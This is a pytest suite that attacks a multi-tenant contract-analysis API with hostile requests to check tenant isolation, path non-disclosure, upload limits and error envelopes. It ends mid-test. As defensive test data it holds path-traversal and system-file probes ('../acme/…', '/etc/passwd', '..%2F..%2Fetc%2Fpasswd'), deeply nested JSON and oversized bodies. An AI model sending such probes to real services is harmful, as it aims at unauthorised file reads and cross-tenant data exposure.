"""A hostile client against a live server on loopback with two tenants (``acme`` and ``beta``):
what must hold whatever a client sends. Nothing is lost (other bytes under an existing contract are
refused unless asked for as a new version, and every old version's citations keep resolving);
nothing is leaked (no response shows a server path, and "not yours" is one answer whether or not
the thing exists elsewhere, so no tenant can learn another's names or probe the server's disk);
every refusal is the error envelope with a hint; refused uploads leave nothing on disk.

The models are scripted (tests/fakes.py); the server, its stores, uploads, jobs and the official
``openai`` client are real. The page and /docs are probed in a real browser in tests/test_web.py;
a server killed with SIGKILL mid-ingest, here and in tests/test_service_restart.py."""

from __future__ import annotations

import asyncio
import io
import json
import threading
import time
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import openai
import pymupdf
import pytest

from clausewise.service.app import create_app
from clausewise.service.jobs import JobStore
from clausewise.service.keys import KeyStore
from clausewise_lab.evals.abuse_families import (
    slow_to_draw_pdf,
    status_of_chunked_upload,
    status_of_head,
    word_file_with,
)
from tests.conftest import EXAMPLES
from tests.fakes import LegalScript
from tests.live import LiveServer, scripted_runtimes, sse_events, wait_job
from tests.test_bad_input import cp1252_with_undefined_bytes
from tests.test_service import GOVERNING, SURVIVAL, error_of, service_settings
from tools.citations import QuoteVerifier

NDA = (EXAMPLES / "mutual-nda.txt").read_text(encoding="utf-8")
#: The contract's next version: text before every clause, so each old span now holds other words.
AMENDED = "AMENDED AND RESTATED\n\n" + NDA.replace("twelve (12) months", "eighteen (18) months")


class HostileScript(LegalScript):
    """The scripted replies; a question containing "which one" is ambiguous (the model asks back
    when allowed to), and one containing "slowly" takes its time (a job still running)."""

    def __init__(self) -> None:
        super().__init__(GOVERNING, "English law")

    def __call__(self, messages, kwargs) -> str:
        said = " ".join(str(m.content) for m in messages).lower()
        if "slowly" in said:
            time.sleep(1.0)
        if "too ambiguous to research" in str(messages[0].content) and "which one" in said:
            return json.dumps({"ambiguous": True, "clarifying_question": "Which agreement do you mean?"})
        return super().__call__(messages, kwargs)


class Recorder:
    """Every response a test saw, so the suite can check them all for server paths and hints
    (read when checked: a streamed response is read by its test first)."""

    def __init__(self) -> None:
        self.seen: list[httpx.Response] = []

    def __call__(self, response: httpx.Response) -> None:
        self.seen.append(response)

    def responses(self) -> list[tuple[str, int, str, str]]:
        """(request, status, request body, response text) of every response that was read."""
        read = []
        for response in self.seen:
            try:
                text = _text_of(response)
            except httpx.ResponseNotRead:
                continue  # a stream its test left unread (its events are read again below)
            request = response.request
            try:
                said = request.content.decode("utf-8", "replace")
            except httpx.RequestNotRead:
                said = ""  # a multipart upload, streamed: files of the test's own
            read.append((f"{request.method} {request.url}", response.status_code, said, text))
        return read


def _text_of(response: httpx.Response) -> str:
    """A response's text, as a client could read it: exports unpacked (DOCX is zipped XML, a PDF
    holds its text in compressed streams)."""
    kind = response.headers.get("content-type", "")
    if kind.startswith("application/pdf"):
        with pymupdf.open(stream=response.content, filetype="pdf") as document:
            return "\n".join(page.get_text() for page in document)
    if kind.startswith(("application/vnd.openxmlformats", "application/zip")):
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    if kind.startswith("image/"):
        return ""
    return response.content.decode("utf-8", "replace")


class Hostile:
    """The served app, the keys, the data folder and the recorder of every response."""

    def __init__(self, live: LiveServer, data: Path, keys: dict[str, str], revoked: str) -> None:
        self.live, self.data, self.keys, self.revoked = live, data, keys, revoked
        self.recorder = Recorder()

    def client(self, tenant: str | None) -> httpx.Client:
        key = self.keys[tenant] if tenant else None
        client = self.live.client(key)
        client.event_hooks["response"].append(self.recorder)
        return client

    def uploads(self, tenant: str) -> list[Path]:
        """The files (not folders) in the tenant's uploads."""
        folder = self.data / "tenants" / tenant / "uploads"
        return [p for p in folder.rglob("*") if p.is_file()] if folder.is_dir() else []


@pytest.fixture(scope="module")
def hostile(hub, tmp_path_factory: pytest.TempPathFactory):
    data = tmp_path_factory.mktemp("hostile")
    settings = service_settings(data, service={"max_upload_mb": 1.0})
    keys = KeyStore.of(settings)
    issued = {tenant: keys.create(tenant, "tests")[1] for tenant in ("acme", "beta")}
    info, revoked = keys.create("beta", "to revoke")
    app = create_app(settings, runtime_factory=scripted_runtimes(HostileScript()), hub=hub)
    with LiveServer(app) as live:
        world = Hostile(live, data, issued, revoked)
        with world.client("acme") as acme:
            secret = acme.post(
                "/v1/contracts",
                files={"file": ("acme-secret.txt", NDA.encode())},
                data={"contract_id": "acme-secret"},
            )
            assert wait_job(acme, secret.json()["job"]["id"])["status"] == "done"
        with world.client("beta") as beta:
            mine = beta.post("/v1/contracts", files={"file": ("mutual-nda.txt", NDA.encode())})
            assert wait_job(beta, mine.json()["job"]["id"])["status"] == "done"
        world.revoked_id = info.id
        yield world


# --- nothing leaked: one answer for "not yours" ----------------------------------------------


def _doors(reference: str) -> list[tuple[str, str, Any]]:
    """Every way a request can name a contract: in a JSON body, a query, a model, a path."""
    in_path = quote(reference, safe="")
    return [
        ("POST", "/v1/checks", {"contracts": [reference], "hypotheses": [SURVIVAL]}),
        ("POST", "/v1/reviews", {"contracts": [reference]}),
        ("POST", "/v1/threads", {"contract": reference}),
        ("GET", f"/v1/threads?contract={in_path}", None),
        (
            "POST",
            "/v1/chat/completions",
            {"model": f"clausewise/{reference}", "messages": [{"role": "user", "content": "Which law?"}]},
        ),
        ("POST", f"/v1/contracts/{in_path}/ask", {"question": "Which law governs?"}),
        ("GET", f"/v1/contracts/{in_path}", None),
        ("GET", f"/v1/contracts/{in_path}/text", None),
        ("GET", f"/v1/contracts/{in_path}/highlight?start=0&end=5", None),
        ("GET", f"/v1/contracts/{in_path}/original", None),
        ("DELETE", f"/v1/contracts/{in_path}", None),
    ]


def _normalized(response: httpx.Response, reference: str) -> tuple[int, str]:
    """The status and body with the caller's own words (the reference echoed) taken out."""
    text = response.text
    # (a server path is shown by its last part only, whoever sent it)
    forms = (
        repr(reference),
        json.dumps(reference),
        quote(reference, safe=""),
        reference,
        Path(reference).name,
    )
    for form in forms:
        text = text.replace(form.strip('"'), "<REF>")
    return response.status_code, text


def test_not_yours_is_one_answer_whether_or_not_it_exists(hostile: Hostile) -> None:
    data = hostile.data
    existing_file = Path(__file__)  # a file that exists on the server's disk
    pairs = [
        ("acme-secret", "nobody-has-this"),  # another tenant's id / an id no one has
        (  # another tenant's contract folder / a folder that is not there
            str(data / "tenants" / "acme" / "contracts" / "acme-secret"),
            str(data / "tenants" / "zzzz" / "contracts" / "acme-secret"),
        ),
        (str(existing_file), str(existing_file.with_name("not-a-file.py"))),  # probing the disk
        ("../acme/acme-secret", "../zzzz/acme-secret"),
        ("acme-secret.txt", "nobody-has-this.txt"),  # a file name is not an id either
    ]
    with hostile.client("beta") as beta, hostile.client("acme") as acme:
        assert acme.get("/v1/contracts/acme-secret").status_code == 200  # it does exist, for acme
        for exists, missing in pairs:
            for (method, path, body), (_m, other_path, other_body) in zip(
                _doors(exists), _doors(missing), strict=True
            ):
                seen = beta.request(method, path, json=body)
                unseen = beta.request(method, other_path, json=other_body)
                assert seen.status_code == 404, (method, path, seen.text)
                assert _normalized(seen, exists) == _normalized(unseen, missing), (method, path)
                problem = error_of(seen)
                assert "ingest it first" not in problem["hint"] and "known" not in problem["message"]
                if problem["code"] == "contract_not_found":
                    assert "GET /v1/contracts" in problem["hint"]
    # acme still has it, untouched by beta's DELETEs
    with hostile.client("acme") as acme:
        assert [c["contract_id"] for c in acme.get("/v1/contracts").json()] == ["acme-secret"]


def test_a_revoked_key_is_refused_at_once(hostile: Hostile) -> None:
    with hostile.live.client(hostile.revoked) as client:
        assert client.get("/v1/contracts").status_code == 200
        KeyStore.of(service_settings(hostile.data)).revoke(hostile.revoked_id)
        refused = client.get("/v1/contracts")
        assert refused.status_code == 401 and error_of(refused)["code"] == "invalid_api_key"
        assert error_of(refused)["hint"]
    for key in (None, "garbage", "cw_" + "0" * 40):
        with hostile.live.client(key) as client:
            assert client.post("/v1/checks", json={"contracts": ["x"], "suite": "nda"}).status_code == 401


# --- nothing lost: versions ------------------------------------------------------------------


def test_other_bytes_are_refused_then_kept_as_a_version_and_old_citations_resolve(hostile: Hostile) -> None:
    with hostile.client("beta") as beta:
        # what cites version 1: a chat thread's report, a check's evidence, an answer to export
        thread = beta.post("/v1/threads", json={"contract": "mutual-nda"}).json()
        assert thread["contract_version"] == 1
        first = beta.post(
            f"/v1/threads/{thread['id']}/messages", json={"content": "Which law governs?"}
        ).json()
        old_report = first["report"]
        assert old_report["metadata"]["contract_version"] == 1 and old_report["sources"]
        check = wait_job(
            beta,
            beta.post("/v1/checks", json={"contracts": ["mutual-nda"], "hypotheses": [SURVIVAL]}).json()[
                "id"
            ],
        )
        [row] = check["result"]["rows"]
        assert row["contract_version"] == 1 and row["result"]["evidence"]
        asked = beta.post(
            "/v1/contracts/mutual-nda/ask", json={"question": "Which law governs?", "stream": True}
        )
        ask_job = asked.headers["x-job-id"]

        # other bytes under the same id: refused, nothing replaced, nothing kept
        refused = beta.post("/v1/contracts", files={"file": ("mutual-nda.txt", AMENDED.encode())})
        assert refused.status_code == 409, refused.text
        problem = error_of(refused)
        assert problem["code"] == "contract_changed" and "version 1" in problem["message"]
        assert "new_version=true" in problem["hint"]
        assert beta.get("/v1/contracts/mutual-nda").json()["manifest"]["version"] == 1
        assert hostile.uploads("beta") == []

        # asked for as a new version: version 2 is live, version 1 kept
        upload = beta.post(
            "/v1/contracts",
            files={"file": ("mutual-nda.txt", AMENDED.encode())},
            data={"new_version": "true"},
        )
        assert upload.status_code == 202 and "path" not in json.dumps(upload.json()["job"]["request"])
        done = wait_job(beta, upload.json()["job"]["id"])
        assert done["result"]["version"] == 2 and hostile.uploads("beta") == []
        detail = beta.get("/v1/contracts/mutual-nda").json()
        assert [(v["version"], v["live"]) for v in detail["versions"]] == [(1, False), (2, True)]
        [summary] = beta.get("/v1/contracts").json()
        assert (summary["version"], summary["versions"]) == (2, 2)

        # every old citation still resolves, in version 1: the same words at the same span
        old_text = beta.get("/v1/contracts/mutual-nda/text", params={"version": 1}).json()["text"]
        new_text = beta.get("/v1/contracts/mutual-nda/text").json()["text"]
        assert old_text == NDA and new_text.startswith("AMENDED AND RESTATED")
        cited = [(tuple(s["span"]), s["quote"]) for s in old_report["sources"]] + [
            (tuple(e["span"]), e["quote"]) for e in row["result"]["evidence"]
        ]
        old, new = QuoteVerifier(old_text), QuoteVerifier(new_text)
        assert all(old.is_at(quote_, span) for span, quote_ in cited)
        assert not any(new.is_at(quote_, span) for span, quote_ in cited)  # the live text moved on
        for span, _quote in cited:
            shown = beta.get(
                "/v1/contracts/mutual-nda/highlight", params={"start": span[0], "end": span[1], "version": 1}
            )
            assert shown.status_code == 200, shown.text
        # the thread goes on reading the version it started on; a new question reads the live one
        follow = beta.post(
            f"/v1/threads/{thread['id']}/messages", json={"content": "And which courts?"}
        ).json()
        assert follow["report"]["metadata"]["contract_version"] == 1
        assert all(old.is_at(s["quote"], tuple(s["span"])) for s in follow["report"]["sources"])
        fresh = beta.post("/v1/contracts/mutual-nda/ask", json={"question": "Which law governs?"}).json()
        assert fresh["metadata"]["contract_version"] == 2
        assert all(new.is_at(s["quote"], tuple(s["span"])) for s in fresh["sources"])
        assert "Sources" in beta.get(f"/v1/jobs/{ask_job}/result", params={"format": "md"}).text

        # deleting is explicit: one older version, never the live one alone
        live_only = beta.delete("/v1/contracts/mutual-nda", params={"version": 2})
        assert live_only.status_code == 409 and error_of(live_only)["code"] == "live_version"
        assert beta.delete("/v1/contracts/mutual-nda", params={"version": 1}).status_code == 204
        gone = beta.get("/v1/contracts/mutual-nda/text", params={"version": 1})
        assert gone.status_code == 404 and error_of(gone)["code"] == "version_not_found"


def test_thirty_concurrent_uploads_of_one_file_make_one_version(hostile: Hostile) -> None:
    body = (EXAMPLES / "services-agreement.txt").read_bytes()
    answers: list[httpx.Response] = []

    def send() -> None:
        with hostile.client("acme") as acme:
            answers.append(acme.post("/v1/contracts", files={"file": ("services-agreement.txt", body)}))

    threads = [threading.Thread(target=send) for _ in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert len(answers) == 30 and {a.status_code for a in answers} <= {200, 202}
    with hostile.client("acme") as acme:
        jobs = [wait_job(acme, a.json()["job"]["id"]) for a in answers if a.status_code == 202]
        assert all(job["status"] == "done" for job in jobs), [j["error"] for j in jobs]
        assert sum(job["result"]["status"] == "ingested" for job in jobs) == 1
        detail = acme.get("/v1/contracts/services-agreement").json()
        assert [v["version"] for v in detail["versions"]] == [1]
    assert hostile.uploads("acme") == []


# --- refusals: typed, with a hint, and nothing left on disk -----------------------------------


def test_refused_uploads_are_deleted_and_uploads_are_bounded(hostile: Hostile, tmp_path: Path) -> None:
    encrypted = tmp_path / "locked.pdf"
    with pymupdf.open() as document:
        document.new_page().insert_text((72, 72), "Secret agreement")
        document.save(encrypted, encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="o", user_pw="u")
    cases = {
        "empty.txt": (b"", 422, "empty_document"),
        "junk.pdf": (b"%PDF-1.7\n" + b"\x00junk" * 200_000, 422, "corrupt_document"),  # 1 MB of junk
        "locked.pdf": (encrypted.read_bytes(), 422, "encrypted_document"),
        "old.doc": (b"\xd0\xcf\x11\xe0" + b"\x00" * 600, 415, "unsupported_file_type"),
        "big.txt": (b"clause " * 450_000, 413, "file_too_large"),  # over parsing.max_file_mb (2)
        "binary.txt": (bytes(range(256)) * 40, 422, "undecodable_text"),
        "mostly-junk.txt": (b"Agreement " + b"\x81\x8d\x8f\x90\x9d" * 400, 422, "undecodable_text"),
        "quota.txt": (b"clause " * 180_000, 413, "upload_quota_exceeded"),  # 1.26 MB > 1 MB of uploads
    }
    with hostile.client("acme") as acme:
        named = acme.post(
            "/v1/contracts", files={"file": ("x.txt", NDA.encode())}, data={"contract_id": "../beta/x"}
        )
        assert named.status_code == 422 and error_of(named)["code"] == "invalid_contract_id"
        assert hostile.uploads("acme") == []
    with hostile.client("acme") as acme:
        for name, (content, status, code) in cases.items():
            response = acme.post("/v1/contracts", files={"file": (name, content)})
            assert response.status_code == status, (name, response.text)
            problem = error_of(response)
            assert problem["code"] == code and problem["hint"], (name, problem)
            assert hostile.uploads("acme") == [], name  # nothing of a refused upload is kept
        # a batch refused for one file keeps none of the others
        batch = acme.post(
            "/v1/batches",
            data={"kind": "check", "suite": "nda"},
            files=[("files", ("a.txt", NDA.encode())), ("files", ("empty.txt", b""))],
        )
        assert batch.status_code == 422 and hostile.uploads("acme") == []
        # an accepted one is deleted once ingested: the version keeps its own copy of the original
        ok = acme.post("/v1/contracts", files={"file": ("bounded.txt", NDA.encode())})
        assert wait_job(acme, ok.json()["job"]["id"])["status"] == "done"
        assert hostile.uploads("acme") == []
        assert acme.get("/v1/contracts/bounded/original").content == NDA.encode()
        # the same bytes again: the existing contract, nothing kept
        again = acme.post("/v1/contracts", files={"file": ("bounded.txt", NDA.encode())})
        assert again.status_code == 200 and again.json()["version"] == 1 and hostile.uploads("acme") == []


def test_text_with_undecodable_bytes_is_read_and_its_warning_served(hostile: Hostile) -> None:
    with hostile.client("acme") as acme:
        upload = acme.post("/v1/contracts", files={"file": ("contrat.txt", cp1252_with_undefined_bytes())})
        assert wait_job(acme, upload.json()["job"]["id"])["status"] == "done"
        text = acme.get("/v1/contracts/contrat/text").json()["text"]
        assert "décrits à l'Annexe" in text and "Résiliation" in text and "ķ" not in text
        [warning] = acme.get("/v1/contracts/contrat").json()["manifest"]["warnings"]
        assert "2 byte(s)" in warning and "Windows-1252" in warning
        [listed] = [c for c in acme.get("/v1/contracts").json() if c["contract_id"] == "contrat"]
        assert listed["warnings"] == [warning]


def test_bodies_that_are_not_json_deep_or_too_long_get_the_envelope_with_a_hint(hostile: Hostile) -> None:
    bodies = {
        "invalid UTF-8": b'{"question": "\xff\xfe"}',
        "5,000 deep": b"[" * 5000 + b"]" * 5000,
        "5,000 deep object": b'{"a":' * 5000 + b"1" + b"}" * 5000,
        "truncated": b'{"question": ',
    }
    with hostile.client("beta") as beta:
        for route in ("/v1/contracts/mutual-nda/ask", "/v1/checks", "/v1/threads", "/v1/chat/completions"):
            for what, body in bodies.items():
                response = beta.post(route, content=body, headers={"content-type": "application/json"})
                assert response.status_code == 400, (route, what, response.text)
                problem = error_of(response)
                assert problem["code"] == "malformed_json" and problem["hint"], (route, what)
        # bodies past service.max_request_mb (4), announced or streamed in chunks: refused unread
        huge = json.dumps({"question": "x" * (5 << 20)}).encode()
        announced = beta.post(
            "/v1/contracts/mutual-nda/ask", content=huge, headers={"content-type": "application/json"}
        )
        chunked = beta.post(
            "/v1/checks",
            content=(huge[i : i + 65536] for i in range(0, len(huge), 65536)),
            headers={"content-type": "application/json"},
        )
        for response in (announced, chunked):
            assert response.status_code == 413, response.text
            assert error_of(response)["code"] == "payload_too_large" and error_of(response)["hint"]
        long = beta.post("/v1/contracts/mutual-nda/ask", json={"question": "x" * 100_000})
        assert long.status_code == 422 and error_of(long)["code"] == "question_too_long"
        many = beta.post("/v1/checks", json={"contracts": ["mutual-nda"] * 10_001, "suite": "nda"})
        assert many.status_code == 422 and error_of(many)["hint"]


def test_a_running_jobs_result_is_409_not_a_timeout(hostile: Hostile) -> None:
    asked = {"question": "Answer slowly: what are the exceptions?", "stream": True, "turns": 2}
    with (
        hostile.client("beta") as beta,
        beta.stream("POST", "/v1/contracts/mutual-nda/ask", json=asked) as running,
    ):
        job = running.headers["x-job-id"]
        refused = 0
        for fmt in ("json", "md", "docx", "pdf"):
            early = beta.get(f"/v1/jobs/{job}/result", params={"format": fmt})
            if early.status_code != 409 and beta.get(f"/v1/jobs/{job}").json()["status"] == "done":
                break  # finished meanwhile: nothing left to refuse
            assert early.status_code == 409, early.text
            assert error_of(early)["code"] == "job_not_finished" and job in error_of(early)["hint"]
            refused += 1
        assert refused >= 1
        # an upload whose job is cancelled while it waits behind this one is deleted with it
        waiting = beta.post("/v1/contracts", files={"file": ("waiting.txt", NDA.encode())}).json()["job"]
        if beta.get(f"/v1/jobs/{waiting['id']}").json()["status"] == "queued":
            assert beta.post(f"/v1/jobs/{waiting['id']}/cancel").json()["status"] == "cancelled"
            assert hostile.uploads("beta") == []
        assert wait_job(beta, job)["status"] == "done"
        assert beta.get(f"/v1/jobs/{job}/result", params={"format": "md"}).status_code == 200


def test_the_openai_endpoint_clarifies_only_when_asked_and_marks_it(hostile: Hostile) -> None:
    client = openai.OpenAI(base_url=f"{hostile.live.url}/v1", api_key=hostile.keys["beta"], max_retries=0)
    question = [{"role": "user", "content": "Which one governs, the law or the courts?"}]
    answered = client.chat.completions.create(model="clausewise/mutual-nda", messages=question)
    references = answered.choices[0].message.model_extra["references"]
    assert answered.choices[0].finish_reason == "stop" and references
    with hostile.client("beta") as beta:  # the spans index the live version, and say which
        live = beta.get("/v1/contracts/mutual-nda").json()["manifest"]["version"]
    assert {r["contract_version"] for r in references} == {live}
    asked_back = client.chat.completions.create(
        model="clausewise/mutual-nda", messages=question, extra_body={"clarify": True}
    )
    choice = asked_back.choices[0]
    assert (
        choice.finish_reason == "clarification" and choice.message.content == "Which agreement do you mean?"
    )
    assert (
        choice.message.model_extra["clarification"] is True and choice.message.model_extra["references"] == []
    )
    chunks = list(
        client.chat.completions.create(
            model="clausewise/mutual-nda", messages=question, stream=True, extra_body={"clarify": True}
        )
    )
    assert chunks[-1].choices[0].finish_reason == "clarification" and chunks[-1].model_extra["clarification"]


# --- nothing leaked: no server path in any response --------------------------------------------


def _every_route(beta: httpx.Client, ids: dict[str, str]) -> dict[tuple[str, str], list[tuple[str, Any]]]:
    """A request (or several) for each route the API declares, with real ids of beta's things."""
    contract, thread, ask, check, ingest, playbook = (
        ids["contract"],
        ids["thread"],
        ids["ask"],
        ids["check"],
        ids["ingest"],
        ids["playbook"],
    )
    reports = [f"/v1/jobs/{ask}/result?format={f}" for f in ("json", "md", "html", "docx", "pdf")]
    tables = [f"/v1/jobs/{check}/result?format={f}" for f in ("json", "csv", "xlsx")]
    return {
        ("GET", "/healthz"): [("/healthz", None)],
        ("GET", "/readyz"): [("/readyz", None)],
        ("GET", "/v1/contracts"): [("/v1/contracts", None)],
        ("POST", "/v1/contracts"): [("/v1/contracts", "upload")],
        ("GET", "/v1/contracts/{contract_id}"): [
            (f"/v1/contracts/{contract}", None),
            (f"/v1/contracts/{contract}?version=1", None),
        ],
        ("DELETE", "/v1/contracts/{contract_id}"): [("/v1/contracts/no-such", None)],
        ("GET", "/v1/contracts/{contract_id}/tree"): [(f"/v1/contracts/{contract}/tree", None)],
        ("GET", "/v1/contracts/{contract_id}/text"): [(f"/v1/contracts/{contract}/text", None)],
        ("GET", "/v1/contracts/{contract_id}/pages"): [(f"/v1/contracts/{contract}/pages", None)],
        ("GET", "/v1/contracts/{contract_id}/pages/{number}/image"): [
            (f"/v1/contracts/{contract}/pages/1/image", None)
        ],
        ("GET", "/v1/contracts/{contract_id}/highlight"): [
            (f"/v1/contracts/{contract}/highlight?start=0&end=40", None)
        ],
        ("GET", "/v1/contracts/{contract_id}/search"): [
            (f"/v1/contracts/{contract}/search?q=governing%20law", None)
        ],
        ("GET", "/v1/contracts/{contract_id}/original"): [(f"/v1/contracts/{contract}/original", None)],
        ("POST", "/v1/contracts/{contract_id}/ask"): [
            (f"/v1/contracts/{contract}/ask", {"question": "Which law governs?"})
        ],
        ("POST", "/v1/threads"): [("/v1/threads", {"contract": contract})],
        ("GET", "/v1/threads"): [("/v1/threads", None)],
        ("GET", "/v1/threads/{thread_id}"): [(f"/v1/threads/{thread}", None)],
        ("DELETE", "/v1/threads/{thread_id}"): [("/v1/threads/abcdef123456", None)],
        ("POST", "/v1/threads/{thread_id}/messages"): [
            (f"/v1/threads/{thread}/messages", {"content": "Which law?"})
        ],
        ("POST", "/v1/checks"): [("/v1/checks", {"contracts": [contract], "hypotheses": [SURVIVAL]})],
        ("POST", "/v1/reviews"): [("/v1/reviews", {"contracts": ["/etc/passwd"]})],
        ("POST", "/v1/batches"): [("/v1/batches", "batch")],
        ("POST", "/v1/rooms"): [
            ("/v1/rooms", {"contracts": [contract], "questions": ["Which law governs?"]})
        ],
        ("GET", "/v1/rooms/export"): [
            (f"/v1/rooms/export?jobs={job}&format={f}", None)
            for job in (check, "no-such")
            for f in ("csv", "md")
        ],
        ("GET", "/v1/playbooks"): [("/v1/playbooks", None)],
        ("POST", "/v1/playbooks"): [
            ("/v1/playbooks", {"yaml": "name: [broken\n"}),
            ("/v1/playbooks", {"yaml": "name: ours\nversion: 1\npositions: []\n"}),
        ],
        ("GET", "/v1/playbooks/{name}"): [
            ("/v1/playbooks/playbook-nda", None),
            ("/v1/playbooks/no-such", None),
            ("/v1/playbooks/..%2F..%2Fetc%2Fpasswd", None),
        ],
        ("POST", "/v1/playbook-reviews"): [
            ("/v1/playbook-reviews", {"contracts": [contract], "playbook": "playbook-nda"}),
            ("/v1/playbook-reviews", {"contracts": ["/etc/passwd"]}),
        ],
        ("GET", "/v1/playbook-reviews/{job_id}/redline"): [
            (f"/v1/playbook-reviews/{job}/redline?contract={contract}", None) for job in (playbook, check)
        ],
        ("GET", "/v1/contracts/{contract_id}/changes"): [(f"/v1/contracts/{contract}/changes", None)],
        ("POST", "/v1/contracts/{contract_id}/changes/assessments"): [
            (f"/v1/contracts/{contract}/changes/assessments", {"playbook": "playbook-nda"})
        ],
        ("GET", "/v1/round-assessments/{job_id}/reply"): [
            (f"/v1/round-assessments/{job}/reply", None) for job in (check, "no-such")
        ],
        ("GET", "/v1/compare"): [
            (f"/v1/compare?before={contract}&after={contract}", None),
            ("/v1/compare?before=/etc/passwd&after=..%2F..%2Fetc", None),
        ],
        ("GET", "/v1/jobs"): [("/v1/jobs?limit=1000", None)],
        ("GET", "/v1/audit"): [("/v1/audit", None), ("/v1/audit?format=jsonl", None)],
        ("GET", "/v1/jobs/{job_id}"): [(f"/v1/jobs/{job}", None) for job in (ask, check, ingest)],
        ("GET", "/v1/jobs/{job_id}/result"): [(path, None) for path in reports + tables],
        ("GET", "/v1/jobs/{job_id}/events"): [
            (f"/v1/jobs/{job}/events", None) for job in (ask, check, ingest)
        ],
        ("POST", "/v1/jobs/{job_id}/cancel"): [(f"/v1/jobs/{check}/cancel", None)],
        ("GET", "/v1/models"): [("/v1/models", None)],
        ("POST", "/v1/chat/completions"): [
            (
                "/v1/chat/completions",
                {"model": f"clausewise/{contract}", "messages": [{"role": "user", "content": "Which law?"}]},
            )
        ],
    }


def test_no_response_shows_a_server_path(hostile: Hostile) -> None:
    with hostile.client("beta") as beta:
        contract = "nda-paths"
        upload = beta.post(
            "/v1/contracts", files={"file": ("nda-paths.pdf", (EXAMPLES / "mutual-nda.pdf").read_bytes())}
        )
        ingest = upload.json()["job"]["id"]
        wait_job(beta, ingest)
        thread = beta.post("/v1/threads", json={"contract": contract}).json()["id"]
        beta.post(f"/v1/threads/{thread}/messages", json={"content": "Which law governs?"})
        ask = beta.post(
            f"/v1/contracts/{contract}/ask", json={"question": "Which law governs?", "stream": True}
        ).headers["x-job-id"]
        check = beta.post("/v1/checks", json={"contracts": [contract], "hypotheses": [SURVIVAL]}).json()["id"]
        playbook = beta.post("/v1/playbook-reviews", json={"contracts": [contract]}).json()["id"]
        for job in (ask, check, playbook):
            wait_job(beta, job)
        # the errors most likely to carry one: a library's message about a file it could not open
        corrupt = beta.post(
            "/v1/contracts", files={"file": ("big60.pdf", b"%PDF-1.7\n" + b"\x00junk" * 1000)}
        )
        assert corrupt.status_code == 422 and "big60.pdf" in error_of(corrupt)["message"]
        batch = beta.post(
            "/v1/batches",
            data={"kind": "check", "hypotheses": SURVIVAL},
            files=[("files", ("room-a.txt", NDA.encode())), ("files", ("room-b.pdf", b"%PDF-1.7 broken"))],
        )
        batch_rows = wait_job(beta, batch.json()["id"])["result"]["rows"]
        assert any(r["error"] and "room-b.pdf" in r["error"] for r in batch_rows)
        # a job queued by an older server named its upload by its path: served by its name only
        legacy_path = hostile.data / "tenants" / "beta" / "uploads" / "0123456789abcdef" / "old.pdf"
        store = JobStore(hostile.data / "service" / "jobs.sqlite")
        old_request = {"path": str(legacy_path), "file_name": "old.pdf", "force": False}
        legacy = store.create("beta", "ingest", old_request, max_queued=10)
        store.close()
        ended = wait_job(beta, legacy.id)
        assert ended["request"]["path"] == "old.pdf" and ended["error"]["code"] == "input_error"
        routes = _every_route(
            beta,
            {
                "contract": contract,
                "thread": thread,
                "ask": ask,
                "check": check,
                "ingest": ingest,
                "playbook": playbook,
            },
        )
        declared = {
            (method.upper(), path)
            for path, operations in beta.get("/openapi.json").json()["paths"].items()
            for method in operations
        }
        assert declared == set(routes), declared ^ set(routes)  # a new route must be walked here too
        for (method, _template), requests in routes.items():
            for path, body in requests:
                if body == "upload":
                    beta.post(
                        path, files={"file": ("again.txt", AMENDED.encode())}, data={"contract_id": contract}
                    )
                elif body == "batch":
                    beta.post(
                        path, data={"kind": "review"}, files=[("files", ("x.docx", b"PK\x03\x04 no zip"))]
                    )
                elif method == "GET" and path.endswith("/events"):
                    beta.get(path)
                else:
                    beta.request(method, path, json=body)
        for path in ("/docs", "/openapi.json", "/", "/static/app.js"):
            beta.get(path)
        for job in beta.get("/v1/jobs?limit=1000").json()["jobs"]:
            events = sse_events(beta.get(f"/v1/jobs/{job['id']}/events"))
            assert events
    calls = [("search_contract", {"contract": "acme-secret", "query": "law"}), ("list_contracts", {})]
    _, results = asyncio.run(_mcp(hostile.live.url, hostile.keys["beta"], calls))
    mcp_text = json.dumps([c.model_dump() for result in results for c in result.content])
    roots = {str(hostile.data), str(hostile.data.resolve()), str(Path(__file__).resolve().parents[1])}
    responses = hostile.recorder.responses()
    # a response may repeat what its own request said (a path a probe sent, echoed in "no
    # contract '...'"); anything else holding a server path is a leak
    leaks = [
        (request, status)
        for request, status, said, text in responses
        if any(root in text and root not in request + said for root in roots)
    ]
    assert not leaks and len(responses) > 60, leaks
    assert not any(root in mcp_text for root in roots) and "no contract" in mcp_text
    # and every refusal seen in the whole suite was the envelope with a hint
    refusals = [(request, text) for request, status, _said, text in responses if status >= 400]
    assert refusals and all(json.loads(text)["error"]["hint"] for _request, text in refusals)


async def _mcp(url: str, key: str, calls: list[tuple[str, dict]]):
    from tests.test_service_tenants import _mcp as call

    return await call(url, key, calls)


# --- kill -9 mid-ingest: nothing lost, nothing leaked after the restart -------------------------


@pytest.mark.ocr
def test_killed_mid_ingest_of_a_new_version_nothing_is_lost_or_leaked(tmp_path: Path, tesseract) -> None:
    from tests.test_service_restart import ServerProcess, _wait_until

    data = tmp_path / "data"
    keys = KeyStore.of(service_settings(data))
    key_acme, key_beta = keys.create("acme")[1], keys.create("beta")[1]
    server = ServerProcess(data)
    try:
        server.start()
        beta = httpx.Client(
            base_url=f"http://127.0.0.1:{server.port}", timeout=120, headers=_bearer(key_beta)
        )
        pdf = (EXAMPLES / "mutual-nda.pdf").read_bytes()
        first = beta.post("/v1/contracts", files={"file": ("nda.pdf", pdf)}).json()
        assert wait_job(beta, first["job"]["id"])["status"] == "done"
        check = beta.post("/v1/checks", json={"contracts": ["nda"], "hypotheses": [SURVIVAL]}).json()
        [row] = wait_job(beta, check["id"])["result"]["rows"]
        assert row["contract_version"] == 1 and row["result"]["evidence"]
        scanned = (EXAMPLES / "mutual-nda-scanned.pdf").read_bytes()  # OCR: seconds to ingest
        upload = beta.post(
            "/v1/contracts", files={"file": ("nda.pdf", scanned)}, data={"new_version": "true"}
        ).json()
        job = upload["job"]["id"]
        _wait_until(lambda: beta.get(f"/v1/jobs/{job}").json()["status"] == "running", what="the ingest")
        time.sleep(1.5)
        server.kill()
        beta = _restart(server, key_beta)
        # during the restart's recovery the contract still answers with version 1, whole
